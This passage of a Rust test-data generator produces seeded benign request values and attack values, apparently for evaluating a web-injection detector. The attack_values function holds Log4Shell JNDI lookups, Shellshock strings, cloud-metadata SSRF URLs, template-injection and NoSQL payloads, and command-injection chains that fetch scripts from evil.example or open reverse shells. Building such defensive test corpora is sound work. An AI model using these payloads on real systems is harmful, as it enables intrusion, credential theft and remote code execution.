        if self.chance(0.3) {
            s = format!("```\n{s}\n```");
        }
        if self.chance(0.3) {
            s = format!("{}\n\n{s}", self.sentence());
        }
        s
    }
    fn tricky(&mut self) -> String {
        match self.n(0, 17) {
            0 => self.pick(&["*", ">=", "<=", "!=", "=", "<", ">", "~", "^", "$", "|", "&", "+", "%", "#", "()", "[]", "{}", "..", "/", "\\", ";", ":", "'", "\"", "-", "<>", "=="]).to_string(),
            1 => format!("C:\\Users\\{}\\{}\\{}.{}", self.pick(FIRST).to_lowercase(), self.pick(&["Desktop", "Documents", "Downloads", "AppData\\Local"]), self.words(1, 2).replace(' ', "_"), self.pick(&["docx", "xlsx", "pdf", "txt"])),
            2 => format!("http://{}:{}/{}", self.pick(&["localhost", "127.0.0.1", "[::1]", "0.0.0.0", "192.168.1.20", "10.0.0.5"]), self.n(1024, 65000), self.pick(&["api/auth/callback/github", "", "callback", "oauth2/redirect", "auth/done?state=xyz"])),
            3 => format!("{}/{} (+http://www.{}/{})", self.pick(&["facebookexternalhit", "Twitterbot", "LinkedInBot", "Slackbot-LinkExpanding", "Discordbot", "bingbot", "DuckDuckBot"]), self.n(1, 3), self.pick(DOMAINS), self.pick(&["bot.html", "externalhit_uatext.php", "robots"])),
            4 => format!("00-{:032x}-{:016x}-01", self.rng.gen::<u128>(), self.rng.gen::<u64>()),
            5 => format!("userId={},serverNode=DF%20{},isProduction={}", self.pick(FIRST).to_lowercase(), self.n(1, 99), self.chance(0.5)),
            6 => {
                let items: Vec<String> = (0..self.n(1, 4)).map(|_| format!("%22%2F{}%2F{}%22", self.pick(TLDS_PATHS), self.n(1, 99))).collect();
                format!("%5B{}%5D", items.join("%2C"))
            }
            7 => format!("Hi {{{{name}}}}, your order {{{{order.id}}}} ships on {{{{ship_date}}}}. <{}|Track it>", self.url()),
            8 => format!("{} — see [{}](../{}/{}.md) and ![{}](./img/{}.png)", self.sentence(), self.pick(WORDS), self.pick(TLDS_PATHS), self.pick(WORDS), self.pick(WORDS), self.pick(WORDS)),
            9 => format!("<p>{} &euro;{} &mdash; {} &amp; {}&nbsp;{}</p>", self.words(1, 3), self.n(1, 999), self.words(1, 3), self.pick(WORDS), self.pick(WORDS)),
            10 => format!("at com.example.{}.{}({}.java:{})", self.pick(&["app.Fragment", "net.Client", "ui.MainActivity"]), self.pick(WORDS), self.pick(&["Fragment", "Client", "MainActivity"]), self.n(1, 2000)),
            11 => format!("File \"/app/{}.py\", line {}, in {}", self.pick(WORDS), self.n(1, 900), self.pick(&["<module>", "main", "handler", "<listcomp>"])),
            12 => format!("\"{}\" {}:{}", self.pick(&["eval(", "onload=", "useState(", "SELECT *", "fn main(", "import os", "<script", "../", "document.cookie", "exec(", "${", "{{"]), self.pick(&["path", "language", "repo", "lang", "file"]), self.pick(&["src/", "*.js", "python", "rust", "acme/web", "*.py"])),
            13 => format!("{}/{}/{}.{}", self.pick(&["app/Http/Controllers", "src/components", "lib", "internal/server", "docs/guides", "tests/unit"]), self.pick(WORDS), self.pick(WORDS), self.pick(&["php", "tsx", "go", "rs", "md", "py"])),
            14 => {
                // Long blobs; compressed files end in runs of zero bytes (`AAAA…`).
                let l = self.n(150, 900) as usize * 4;
                let mut b = self.b64(l, false);
                if self.chance(0.4) {
                    let pad = self.n(8, 80) as usize;
                    b = format!("UEsDBBQAAAAIA{}{}", &b[..b.len().min(l / 2)], "A".repeat(pad));
                }
                b
            }
            15 => { let w: Vec<String> = (0..self.n(3, 8)).map(|_| self.password()).collect(); w.join(" ") }
            16 => format!("{}{}{}", self.pick(&["<3", "P@ss'", "semi;", "Old'", "x\"", "a<b>", "100%", "#tag", "{key}", "[1]"]), self.password(), self.pick(&["!", ">", ";", "'", "\"", "", "--", "//"])),
            _ => format!("{} {}", self.pick(&["I <3 it", "2 > 1", "a < b && b < c", "x == y || z", "C++ & C#", "50% off", "rock'n'roll", "it's \"fine\"", "Q&A: what's new?", "->", "=>", "<--"]), self.sentence()),
        }
    }

    /// Uploaded text documents: SVG icons and drawings, XML, CSV, YAML, INI, plain text.
    fn document(&mut self) -> String {
        match self.n(0, 5) {
            0 | 1 => {
                let mut s = String::new();
                if self.chance(0.5) {
                    s.push_str("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n");
                }
                if self.chance(0.3) {
                    s.push_str(&format!("<!-- Generator: {} {}.0.0, SVG Export Plug-In -->\n", self.pick(&["Adobe Illustrator", "Inkscape", "Figma", "Sketch"]), self.n(1, 30)));
                }
                if self.chance(0.2) {
                    s.push_str("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n");
                }
                let size = self.n(16, 512);
                s.push_str(&format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"{size}\" height=\"{size}\" viewBox=\"0 0 {size} {size}\">"));
                if self.chance(0.5) {
                    s.push_str(&format!("<title>{}</title>", self.words(1, 3)));
                }
                for _ in 0..self.n(1, 6) {
                    let el = match self.n(0, 4) {
                        0 => format!("<path d=\"M{} {}L{} {}C{} {} {} {} {} {}Z\" fill=\"#{:06x}\"/>", self.n(0, 99), self.n(0, 99), self.n(0, 99), self.n(0, 99), self.n(0, 99), self.n(0, 99), self.n(0, 99), self.n(0, 99), self.n(0, 99), self.n(0, 99), self.n(0, 0xffffff)),
                        1 => format!("<circle cx=\"{}\" cy=\"{}\" r=\"{}\" stroke=\"currentColor\" stroke-width=\"2\"/>", self.n(0, 99), self.n(0, 99), self.n(1, 50)),
                        2 => format!("<g fill=\"none\" stroke=\"#{:06x}\" stroke-linecap=\"round\"><rect x=\"{}\" y=\"{}\" width=\"{}\" height=\"{}\" rx=\"2\"/></g>", self.n(0, 0xffffff), self.n(0, 20), self.n(0, 20), self.n(1, 99), self.n(1, 99)),
                        3 => format!("<defs><linearGradient id=\"g{}\"><stop offset=\"0\" stop-color=\"#{:06x}\"/></linearGradient></defs>", self.n(0, 9), self.n(0, 0xffffff)),
                        _ => format!("<text x=\"{}\" y=\"{}\" font-family=\"Inter, sans-serif\">{}</text>", self.n(0, 99), self.n(0, 99), self.words(1, 3)),
                    };
                    s.push_str(&el);
                }
                s.push_str("</svg>\n");
                s
            }
            2 => {
                let mut s = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<{} version=\"{}\">\n", self.pick(&["config", "feed", "catalog", "invoice"]), self.n(1, 3));
                for _ in 0..self.n(1, 6) {
                    let tag = self.pick(&["item", "entry", "setting", "line"]);
                    s.push_str(&format!("  <{tag} id=\"{}\" name=\"{}\">{}</{tag}>\n", self.n(1, 999), self.pick(WORDS), self.words(1, 4)));
                }
                s.push_str("</root>\n");
                s
            }
            3 => {
                let mut s = String::from("id,name,email,amount,created_at\n");
                for i in 0..self.n(2, 12) {
                    s.push_str(&format!("{i},\"{}\",{},{}.{:02},2024-{:02}-{:02}\n", self.name(), self.email(), self.n(0, 9999), self.n(0, 99), self.n(1, 12), self.n(1, 28)));
                }
                s
            }
            4 => format!("# {}\nname: {}\nversion: {}.{}.{}\nport: {}\nfeatures:\n  - {}\n  - {}\n[server]\nhost = \"0.0.0.0\"\ntimeout = {}\n", self.words(1, 4), self.pick(WORDS), self.n(0, 9), self.n(0, 20), self.n(0, 9), self.n(1024, 9999), self.pick(WORDS), self.pick(WORDS), self.n(1, 60)),
            _ => (0..self.n(2, 6)).map(|_| self.sentence()).collect::<Vec<_>>().join("\n"),
        }
    }

    /// A security policy as browsers echo it in CSP violation reports
    /// (`original-policy`) and sites post it to their admin APIs: quoted keywords and
    /// semicolons, which the injection classes are made of too.
    fn policy(&mut self) -> String {
        if self.chance(0.2) {
            let features = [
                "camera",
                "microphone",
                "geolocation",
                "payment",
                "usb",
                "fullscreen",
                "interest-cohort",
            ];
            let n = self.n(2, 6);
            return (0..n)
                .map(|_| {
                    let f = self.pick(&features);
                    match self.n(0, 2) {
                        0 => format!("{f}=()"),
                        1 => format!("{f}=(self)"),
                        _ => format!(
                            "{f}=(self \"https://{}.example.com\")",
                            self.pick(&["maps", "pay", "app"])
                        ),
                    }
                })
                .collect::<Vec<_>>()
                .join(", ");
        }
        let directives = [
            "default-src",
            "script-src",
            "style-src",
            "img-src",
            "connect-src",
            "font-src",
            "frame-src",
            "object-src",
            "base-uri",
            "form-action",
            "frame-ancestors",
            "worker-src",
            "media-src",
            "script-src-elem",
            "style-src-attr",
            "manifest-src",
        ];
        let sources = [
            "'self'",
            "'none'",
            "'unsafe-inline'",
            "'unsafe-eval'",
            "'strict-dynamic'",
            "'report-sample'",
            "https:",
            "data:",
            "blob:",
            "https://js.stripe.com",
            "https://*.googleapis.com",
            "https://www.google-analytics.com",
            "*.example.com",
            "wss://ws.example.com",
            "https://cdn.example.net",
            "https://fonts.gstatic.com",
        ];
        let mut parts = Vec::new();
        for _ in 0..self.n(1, 7) {
            let mut d = self.pick(&directives).to_string();
            for _ in 0..self.n(1, 4) {
                d.push(' ');
                match self.n(0, 9) {
                    0 => d.push_str(&format!("'nonce-{}'", self.b64(16, false))),
                    1 => d.push_str(&format!("'sha256-{}'", self.b64(32, false))),
                    _ => d.push_str(self.pick(&sources)),
                }
            }
            parts.push(d);
        }
        match self.n(0, 4) {
            0 => parts.push("report-uri /csp-report".to_string()),
            1 => parts.push("report-to csp-endpoint".to_string()),
            2 => parts.push("upgrade-insecure-requests".to_string()),
            _ => {}
        }
        parts.join("; ")
    }

    /// A filter or query expression in one of the syntaxes APIs take as a parameter:
    /// OData `$filter` (Microsoft Graph, SharePoint, Dynamics), SCIM filters, Lucene /
    /// Elasticsearch `query_string`, RSQL/FIQL. Quoted literals next to `or`/`and` and
    /// function calls are what SQL and XPath injections look like too.
    fn filter_expression(&mut self) -> String {
        let field = |g: &mut G| {
            g.pick(&[
                "Name",
                "displayName",
                "mail",
                "City",
                "Status",
                "Category",
                "Title",
                "Description",
                "userName",
                "emails.value",
                "createdDateTime",
                "Price",
                "jobTitle",
                "department",
                "title",
                "author",
                "tags",
                "year",
                "state",
            ])
            .to_string()
        };
        let literal = |g: &mut G| match g.n(0, 4) {
            0 => g.words(1, 2),
            1 => g.pick(FIRST).to_string(),
            2 => g
                .pick(&[
                    "A", "J", "Open", "Pending", "London", "Sales", "select", "union", "O''Brien",
                ])
                .to_string(),
            3 => format!("{}", g.n(0, 5000)),
            _ => g.pick(LAST).to_string(),
        };
        let clause = |g: &mut G| {
            let (f, l) = (field(g), literal(g));
            match g.n(0, 11) {
                0 => format!("startswith({f},'{l}')"),
                1 => format!("contains({f},'{l}')"),
                2 => format!("endswith({f},'{l}')"),
                3 => format!("{f} eq '{l}'"),
                4 => format!("{f} ne '{l}'"),
                5 => format!("{f} {} {}", g.pick(&["gt", "ge", "lt", "le"]), g.n(0, 999)),
                6 => format!("not ({f} eq '{l}')"),
                7 => format!("substringof('{l}',{f}) eq true"),
                8 => format!("{f}/any(t:t eq '{l}')"),
                9 => format!("tolower({f}) eq '{}'", l.to_lowercase()),
                10 => format!("year({f}) eq {}", g.n(1990, 2026)),
                _ => format!("{f} in ('{l}','{}')", literal(g)),
            }
        };
        match self.n(0, 5) {
            0..=2 => {
                let n = self.n(1, 4);
                let mut s = clause(self);
                for _ in 1..n {
                    let join = self.pick(&[" or ", " and ", " and not "]);
                    let c = clause(self);
                    if self.chance(0.3) {
                        s = format!("({s}){join}{c}");
                    } else {
                        s = format!("{s}{join}{c}");
                    }
                }
                s
            }
            3 => {
                // SCIM (RFC 7644)
                let (f, l) = (field(self), literal(self));
                let op = self.pick(&["eq", "co", "sw", "ew", "ne"]);
                match self.n(0, 2) {
                    0 => format!("{f} {op} \"{l}\""),
                    1 => format!(
                        "{f} {op} \"{l}\" and ({} co \"{}\" or {} pr)",
                        field(self),
                        literal(self),
                        field(self)
                    ),
                    _ => format!(
                        "emails[type eq \"work\" and value co \"@{}\"]",
                        self.pick(DOMAINS)
                    ),
                }
            }
            4 => {
                // Lucene / Elasticsearch query_string
                let (f, l) = (field(self).to_lowercase(), literal(self));
                match self.n(0, 4) {
                    0 => format!("{f}:({l} OR {}) AND NOT status:closed", literal(self)),
                    1 => format!(
                        "{f}:\"{l}\" AND year:[{} TO {}]",
                        self.n(1990, 2010),
                        self.n(2011, 2026)
                    ),
                    2 => format!(
                        "({f}:{} OR {f}:{}) -{}:{}",
                        self.pick(WORDS),
                        self.pick(WORDS),
                        field(self).to_lowercase(),
                        self.pick(WORDS)
                    ),
                    3 => format!(
                        "{f}:{}* AND _exists_:{}",
                        self.pick(WORDS),
                        field(self).to_lowercase()
                    ),
                    _ => format!("{} && {f}:>={}", self.words(1, 3), self.n(1, 500)),
                }
            }
            _ => {
                // RSQL / FIQL
                let (f, l) = (field(self), literal(self).replace(' ', "*"));
                format!(
                    "{f}=={l};{}=gt={}{}",
                    field(self),
                    self.n(0, 999),
                    if self.chance(0.5) {
                        format!(
                            ",{}=in=({},{})",
                            field(self),
                            self.pick(WORDS),
                            self.pick(WORDS)
                        )
                    } else {
                        String::new()
                    }
                )
            }
        }
    }

    fn value(&mut self) -> String {
        if self.chance(0.04) {
            return self.document();
        }
        if self.chance(0.015) {
            return self.filter_expression();
        }
        if self.chance(0.01) {
            return self.return_path();
        }
        if self.chance(0.02) {
            return self.i18n_text();
        }
        if self.chance(0.25) {
            return self.tricky();
        }
        if self.chance(0.08) {
            return self.code();
        }
        if self.chance(0.05) {
            return self.password();
        }
        if self.chance(0.01) {
            return self.policy();
        }
        match self.n(0, 15) {
            0 | 1 => self.sentence(),
            2 => self.html(),
            3 => self.markdown(),
            4 => self.graphql(),
            5 => self.json_object(0),
            6 => self.user_agent(),
            7 => self.url(),
            8 => self.path(),
            9 | 10 => self.search(),
            11 => self.beacon(),
            12 => self.name(),
            13 => self.email(),
            _ => self.misc_value(),
        }
    }
}

/// `count` benign values from `seed`. Each is a value as it would appear in a request
/// location after the request model's own decoding.
pub fn benign_values(seed: u64, count: usize) -> Vec<String> {
    let mut g = G {
        rng: ChaCha8Rng::seed_from_u64(seed),
    };
    (0..count).map(|_| g.value()).collect()
}

/// `count` attack values of families the shared data sets predate or barely cover
/// (Log4Shell lookups and their obfuscations, Shellshock, cloud-metadata SSRF, NoSQL
/// operators, prototype pollution, template-engine expressions, modern command-injection
/// chains), assembled from the fragments below with the seeded RNG.
pub fn attack_values(seed: u64, count: usize) -> Vec<String> {
    let mut g = G {
        rng: ChaCha8Rng::seed_from_u64(seed ^ 0xa77a_c4ed),
    };
    let host = |g: &mut G| {
        format!(
            "{}.{}",
            g.chars(b"abcdefghijklmnopqrstuvwxyz0123456789", 6),
            g.pick(&[
                "oast.fun",
                "interact.sh",
                "attacker.example",
                "evil.example",
                "198.51.100.7:1389",
                "burpcollaborator.net"
            ])
        )
    };
    (0..count)
        .map(|_| match g.n(0, 7) {
            0 => {
                let proto = g.pick(&["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http"]);
                let h = host(&mut g);
                let jndi = g.pick(&["jndi", "${lower:j}ndi", "${::-j}${::-n}${::-d}${::-i}", "j${::-n}di", "${upper:j}${upper:n}di", "${env:NaN:-j}ndi"]);
                let lead = g.pick(&["", "x", "User ", "test-", "${date:yyyy}"]);
                format!("{lead}${{{jndi}:{proto}://{h}/{}}}", g.pick(&["a", "Exploit", "${env:USER}", "${sys:java.version}", "o=tomcat"]))
            }
            1 => format!(
                "() {{ {}; }}; {}",
                g.pick(&[":", "_", ":;"]),
                g.pick(&["/bin/bash -c 'id'", "echo; /bin/cat /etc/passwd", "/usr/bin/wget http://198.51.100.23/s -O /tmp/s", "ping -c 3 198.51.100.9"])
            ),
            2 => format!(
                "http://{}{}",
                g.pick(&["169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]", "100.100.100.200", "0x7f000001", "2130706433", "127.1", "localhost:6379"]),
                g.pick(&["/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/instance/service-accounts/default/token", "/latest/user-data", "/", "/admin", "/_cat/indices"])
            ),
            3 => g.pick(&[
                "{\"$ne\": null}", "{\"$gt\": \"\"}", "{\"$regex\": \".*\"}", "{\"$where\": \"sleep(5000)\"}",
                "[$ne]=1", "';return true;var x='", "{\"username\": {\"$in\": [\"admin\"]}}", "true, $where: '1 == 1'",
            ]).to_string(),
            4 => g.pick(&[
                "__proto__[isAdmin]=true", "{\"__proto__\": {\"admin\": true}}", "constructor[prototype][polluted]=1",
                "{\"constructor\": {\"prototype\": {\"shell\": \"/bin/sh\"}}}", "__proto__.toString=1",
            ]).to_string(),
            5 => g.pick(&[
                "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
                "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "{% import os %}{{ os.system('whoami') }}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
                "*{T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            ]).to_string(),
            6 => format!(
                "{}{}{}",
                g.pick(&["", "x", "1", "test", "127.0.0.1"]),
                g.pick(&[";", "|", "||", "&&", "\n", "`", "$("]),
                g.pick(&[
                    "curl -s http://198.51.100.4/x.sh | sh", "wget -qO- http://evil.example/a | bash", "nc -e /bin/sh 198.51.100.4 4444",
                    "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "id)", "whoami`",
                    "cat${IFS}/etc/passwd", "powershell -enc SQBFAFgA", "sleep 10",
                ])
            ),
            _ => format!(
                "{}{}",
                g.pick(&["file:///etc/passwd", "gopher://127.0.0.1:6379/_", "dict://127.0.0.1:11211/", "php://filter/convert.base64-encode/resource=", "expect://id", "jar:http://evil.example/x.jar!/"]),
                g.pick(&["", "index.php", "config", "stats"])
            ),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_values_different_seed_different_values() {
        assert_eq!(benign_values(7, 200), benign_values(7, 200));
        assert_ne!(benign_values(7, 200), benign_values(8, 200));
    }

    #[test]
    fn covers_the_modern_kinds() {
        let all = benign_values(1, 3000).join("\n");
        for needle in [
            "eyJ",
            "query ",
            "<p>",
            "```",
            "utm_source",
            "/wp-admin/",
            "Mozilla/5.0",
            "@",
        ] {
            assert!(all.contains(needle), "generator never produced {needle:?}");
        }
    }
}
